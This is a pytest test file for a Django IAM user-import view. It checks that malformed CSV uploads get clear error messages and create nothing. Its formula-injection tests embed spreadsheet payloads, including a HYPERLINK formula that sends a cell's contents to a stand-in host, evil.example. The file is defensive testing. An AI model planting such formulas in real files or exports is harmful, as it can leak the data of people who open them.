"""Bad import files through the view (users/views/imports.py), on moto's in-process IAM: each gets
a clear message next to the file field (file-level errors: nothing kept) or in its rows (row
errors: a dry run that cannot be confirmed), never a 5xx, and nothing is ever created in IAM
(RELIABILITY.md B7, B10; users/imports.py)."""

from __future__ import annotations

import html
import io
import os
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from users import imports
from users.iam.gateway import MUTATING, IamGateway
from users.models import AuditEvent, ImportRow, Job, UserImport

HEADER = "user_name,groups,tags,console_access,programmatic_access\n"


def _upload(client: Client, content: bytes, name: str = "users.csv"):
    """POST the file as the upload form does."""
    file = SimpleUploadedFile(name, content, content_type="text/csv")
    return client.post(reverse("users:import"), {"file": file})


def _file_error_html(response) -> str:
    """The text shown under the file input, in the error block the input names in its
    aria-describedby (so a screen reader reads it with the field), unescaped."""
    page = response.content.decode()
    [field] = re.findall(r'<input type="file" name="file"[^>]*>', page)
    assert "is-invalid" in field and "id_file_error" in field
    found = re.findall(r'<p id="error_\d+_id_file"[^>]*>(.*?)</p>', page, re.S)
    return html.unescape(re.sub(r"<[^>]+>", "", " ".join(found))).strip()


def _assert_nothing_created(iam: IamGateway) -> None:
    assert iam.list_users() == []
    # Audit rows cannot be deleted: the `developers` fixture's own change is left out here.
    changes = AuditEvent.objects.filter(action__in=MUTATING).exclude(action="CreateGroup", target="Developers")
    assert not changes.exists()
    assert not Job.objects.exists()


def _assert_file_refused(response, iam: IamGateway, message: str) -> None:
    """A file-level error: the form again (400), the message next to the file field, nothing
    kept, nothing created."""
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [message]
    assert _file_error_html(response) == message
    assert UserImport.objects.count() == 0
    assert ImportRow.objects.count() == 0
    _assert_nothing_created(iam)


@pytest.fixture
def developers(iam: IamGateway) -> str:
    iam.create_group("Developers")
    return "Developers"


# --- File-level errors ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "content, message",
    [
        (
            b"username,groups\nann,\n",
            "Unknown column \u201cusername\u201d in the header. The columns are: " + ", ".join(imports.COLUMNS) + ".",
        ),
        (
            b"groups,tags\nDevelopers,team=web\n",
            "The header has no user_name column. The columns are: " + ", ".join(imports.COLUMNS) + ".",
        ),
        (
            b"user_name,password\nann,Secret-Passw0rd!\n",
            "The file has a password column. An import never carries passwords: the console generates one "
            "for each user with console access. Remove the column.",
        ),
        (b"user_name,groups,user_name\nann,,ann\n", "The header names user_name more than once."),
        (b"user_name,groups\n", "The file has a header but no users."),
        (b"user_name\n\n \n,\n", "The file has a header but no users."),
    ],
    ids=["unknown-column", "no-user-name", "password-column", "repeated-column", "header-only", "blank-rows-only"],
)
def test_it_refuses_a_file_with_a_wrong_header(iam, operator_client, content, message) -> None:
    _assert_file_refused(_upload(operator_client, content), iam, message)


@pytest.mark.parametrize("content", [b"\n\n\n", b" , ,\r\n"], ids=["newlines", "empty-cells"])
def test_it_refuses_a_file_with_nothing_in_it(iam, operator_client, content) -> None:
    message = "The file is empty. Download the template to see the expected columns."
    _assert_file_refused(_upload(operator_client, content), iam, message)


def test_it_refuses_a_zero_byte_file(iam, operator_client) -> None:
    _assert_file_refused(_upload(operator_client, b""), iam, "The submitted file is empty.")


def test_it_refuses_ten_megabytes_of_junk_by_its_size(iam, operator_client) -> None:
    junk = os.urandom(10 * 1024 * 1024)
    message = "The file is 10.0 MB. An import file can be up to 5 MB (5,000 users)."
    _assert_file_refused(_upload(operator_client, junk, "junk.csv"), iam, message)


NOT_UTF8 = "Line {} is not UTF-8 text. Save the file as \u201cCSV UTF-8\u201d and upload it again."


def test_it_refuses_binary_junk_under_the_size_limit_as_not_utf8(iam, operator_client) -> None:
    # 3 MB: above FILE_UPLOAD_MAX_MEMORY_SIZE, so Django hands the view a temporary file.
    junk = b"\xff\xfe" + os.urandom(3 * 1024 * 1024)
    _assert_file_refused(_upload(operator_client, junk, "junk.csv"), iam, NOT_UTF8.format(1))


@pytest.mark.parametrize(
    "content, line",
    [
        ("user_name,tags\nJos\u00e9,team=web\n".encode("latin-1"), 2),
        (b"user_name\n" + b"ann\n" * 3000 + "bj\u00f6rn\n".encode("cp1252"), 3002),
        ("user_name,tags\nann,team=web\n".encode("utf-16"), 1),
    ],
    ids=["latin-1", "cp1252-on-line-3002", "utf-16"],
)
def test_it_refuses_a_file_that_is_not_utf8_and_names_the_line(iam, operator_client, content, line) -> None:
    _assert_file_refused(_upload(operator_client, content), iam, NOT_UTF8.format(line))


def test_it_refuses_more_than_5000_rows_and_keeps_none(iam, operator_client) -> None:
    rows = "".join(f"user-{n:04d}\n" for n in range(imports.MAX_ROWS + 1))
    response = _upload(operator_client, ("user_name\n" + rows).encode())
    _assert_file_refused(response, iam, "The file has more than 5,000 users. Split it into files of up to 5,000.")


def test_it_accepts_exactly_5000_rows(iam, operator_client) -> None:
    """The limit itself is fine (the 5,001-row refusal is about the extra row)."""
    rows = "".join(f"user-{n:04d}\n" for n in range(imports.MAX_ROWS))
    response = _upload(operator_client, ("user_name\n" + rows).encode())
    assert response.status_code == 302
    upload = UserImport.objects.get()
    assert (upload.rows_total, upload.rows_invalid, upload.errors) == (5000, 0, [])
    _assert_nothing_created(iam)


def test_it_refuses_a_row_longer_than_the_header(iam, operator_client) -> None:
    response = _upload(operator_client, b"user_name,tags\nann,team=web,extra\n")
    _assert_file_refused(
        response,
        iam,
        "Line 2 has 3 cells, but the header names 2 columns. Quote any cell that contains a comma.",
    )


# --- Row errors: the dry run is kept, shows them, and cannot be confirmed ---------------------


def _plan_page(client: Client, response) -> tuple[UserImport, str]:
    assert response.status_code == 302, response.content.decode()[:2000]
    upload = UserImport.objects.get()
    assert response["Location"] == reverse("users:import_plan", args=[upload.id])
    page = client.get(response["Location"])
    assert page.status_code == 200
    return upload, html.unescape(page.content.decode())


def _row_errors(page: str) -> dict[int, str]:
    """Each row's error list as the plan page shows it, by file line, tags stripped."""
    rows = re.findall(r'data-testid="import-row" data-line="(\d+)">(.*?)</tr>', page, re.S)
    return {int(line): re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", body)) for line, body in rows}


def _assert_not_confirmable(client: Client, upload: UserImport, iam: IamGateway) -> None:
    response = client.post(reverse("users:import_confirm", args=[upload.id]), follow=True)
    assert response.status_code == 200
    assert "Fix the rows with errors and upload the file again: nothing was created." in html.unescape(
        response.content.decode()
    )
    upload.refresh_from_db()
    assert upload.job is None and upload.confirmed_at is None
    _assert_nothing_created(iam)


FORMULA = "Starts with \u201c=\u201d, which spreadsheets run as a formula. Save the sheet with plain values."


def test_it_refuses_formulas_in_cells_row_by_row(iam, developers, operator_client) -> None:
    content = (
        HEADER
        + 'ann,Developers,"=HYPERLINK(""http://evil.example/?q=""&A1,""Click"")",yes,yes\n'
        + "=A1,Developers,team=web,no,yes\n"
        + " =1+2,,,no,yes\n"
        + "@SUM(A1),,,no,yes\n"
        + "cy,Developers,team=web,yes,yes\n"
    ).encode()
    upload, page = _plan_page(operator_client, _upload(operator_client, content))

    assert (upload.rows_total, upload.rows_invalid) == (5, 4)
    errors = _row_errors(page)
    assert set(errors) == {2, 3, 4, 5}  # the page shows the rows with errors only
    assert f"tags : {FORMULA}" in errors[2]
    assert f"user_name : {FORMULA}" in errors[3]
    assert f"user_name : {FORMULA}" in errors[4]  # a leading space does not hide it
    assert "user_name : Starts with \u201c@\u201d, which spreadsheets run as a formula." in errors[5]
    # The formula is the one thing said about such a cell (not also "not a valid user name").
    assert errors[3].count("user_name") == 1
    stored = {row.line: row.errors for row in upload.rows.filter(is_valid=False)}
    assert stored[2] == [{"column": "tags", "message": FORMULA}]
    assert stored[3] == [{"column": "user_name", "message": FORMULA}]
    assert upload.rows.get(line=6).is_valid
    _assert_not_confirmable(operator_client, upload, iam)


def test_it_refuses_a_formula_inside_a_tag_value(iam, operator_client) -> None:
    """Not at the start of the cell, so not caught as a formula, but IAM's tag characters leave
    out `(`, `"` and `,`: the tag rule refuses it."""
    content = b'user_name,tags\nann,"link==HYPERLINK(""http://evil.example"",""x"")"\n'
    upload, page = _plan_page(operator_client, _upload(operator_client, content))
    assert (upload.rows_total, upload.rows_invalid) == (1, 1)
    [entry] = upload.rows.get().errors
    assert entry["column"] == "tags" and entry["message"].startswith("Tag \u201clink\u201d:")
    assert entry["message"] in page
    _assert_not_confirmable(operator_client, upload, iam)


def test_it_shows_each_bad_row_with_its_line_and_keeps_nothing_in_iam(iam, developers, operator_client) -> None:
    content = (
        HEADER
        + "ann,Developers,team=web,yes,yes\n"
        + "Ann,,,no,yes\n"
        + "bob,Testers,,maybe,yes\n"
        + "Jos\u00e9,,,no,yes\n"
        + "cy,,aws:x=1,no,yes\n"
    ).encode()
    upload, page = _plan_page(operator_client, _upload(operator_client, content))
    errors = _row_errors(page)
    assert set(errors) == {3, 4, 5, 6}
    assert "Same user name as line 2 (user names are unique regardless of case)." in errors[3]
    assert "No such group: \u201cTesters\u201d." in errors[4]
    assert "Enter yes or no, not \u201cmaybe\u201d." in errors[4]
    assert "user_name :" in errors[5]
    assert "tags :" in errors[6] and "aws:" in errors[6]
    _assert_not_confirmable(operator_client, upload, iam)


def test_it_refuses_a_user_that_already_exists_in_any_case(iam, operator_client) -> None:
    iam.create_user("Ann")
    upload, page = _plan_page(operator_client, _upload(operator_client, b"user_name\nann\n"))
    assert "A user named Ann already exists." in _row_errors(page)[2]
    response = operator_client.post(reverse("users:import_confirm", args=[upload.id]))
    assert response.status_code == 302
    assert [user.name for user in iam.list_users()] == ["Ann"]
    assert not Job.objects.exists()


@pytest.mark.parametrize(
    "content, line",
    [
        (b"user_name,tags\nann\x00,team=web\n", 2),
        (b"user_name,tags\nann,team=web\nbob,team=w\x00eb\n", 3),
        (b"user_name,groups\nann,Dev\x00elopers\n", 2),
        (b"user\x00name\nann\n", 1),
    ],
    ids=["in-user-name", "in-tag", "in-group", "in-header"],
)
def test_it_refuses_a_nul_byte_without_a_server_error(iam, operator_client, content, line) -> None:
    """RELIABILITY.md B7: never a 500, on PostgreSQL too, whose text columns cannot hold U+0000."""
    message = f"Line {line} holds a NUL character: this is not a CSV text file."
    _assert_file_refused(_upload(operator_client, content), iam, message)


def test_a_file_name_with_a_nul_is_kept_without_it(iam, operator_client) -> None:
    response = _upload(operator_client, b"user_name\nann\n", name="us\x00ers.csv")
    assert response.status_code == 302
    assert UserImport.objects.get().file_name == "users.csv"


def test_it_lets_only_operators_upload(iam, viewer_client) -> None:
    response = _upload(viewer_client, b"user_name\nann\n")
    assert response.status_code == 403
    assert UserImport.objects.count() == 0
    _assert_nothing_created(iam)


def test_the_template_is_a_valid_import(iam, operator_client) -> None:
    """The downloadable template passes its own dry run once its group exists (so a file made
    from it fails only for what the operator typed)."""
    iam.create_group("Developers")
    template = operator_client.get(reverse("users:import_template"))
    content = b"".join(template.streaming_content) if template.streaming else template.content
    upload, _ = _plan_page(operator_client, _upload(operator_client, content))
    assert (upload.rows_total, upload.rows_invalid) == (2, 0)
    assert io.StringIO(content.decode()).readline().strip() == ",".join(imports.COLUMNS)


# --- Found while writing these: fails until users/imports.py is fixed ----------------------


def test_it_refuses_one_endless_line_as_not_csv_and_names_that_line(iam, operator_client) -> None:
    """A 4 MB file with no line break (a minified export, base64…): its one line is line 1.

    Fails today: users/imports.py adds 1 to the reader's line for every csv.Error, which is
    right for a bare CR ("new-line character seen…") and one too many for the others."""
    _assert_file_refused(
        _upload(operator_client, b"user_name," + b"A" * (4 * 1024 * 1024)),
        iam,
        "Line 1 is not valid CSV (field larger than field limit (131072)). Save the file as \u201cCSV UTF-8\u201d.",
    )
